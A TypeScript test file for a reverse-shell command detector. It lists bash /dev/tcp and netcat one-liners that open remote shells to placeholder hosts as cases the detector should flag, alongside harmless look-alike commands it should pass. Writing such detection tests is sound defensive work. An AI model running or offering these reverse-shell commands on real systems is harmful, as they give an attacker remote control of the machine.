import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-reverse-shell.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  ['bash', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'shell'],
  [
    'line by line',
    'exec 5<>/dev/tcp/a.invalid/443; cat <&5 | while read line; do $line 2>&5 >&5; done',
    'shell',
  ],
  ['line by line in eval', 'exec 5<>/dev/tcp/a.invalid/443; while read l <&5; do eval "$l"; done', 'shell'],
  ['a descriptor first', '0<&196;exec 196<>/dev/tcp/a.invalid/443; sh <&196 >&196 2>&196', 'shell'],
  ['nc line by line', 'nc a.invalid 443 | while read l; do $l; done', 'shell'],
  ['nc', 'nc -e /bin/sh 203.0.113.9 4444', 'shell'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['exec 3<>/dev/tcp/a.invalid/80; cat <&3 | while read l; do echo "$l"; done'],
  ['nc -zv a.invalid 443'],
  ['nc -l 8080'],
  ['bash -i'],
  ['exec 3<>/dev/tcp/a.invalid/80'],
])('innocent: %s', (command) => {
  expect(titles(command)).toEqual([])
})
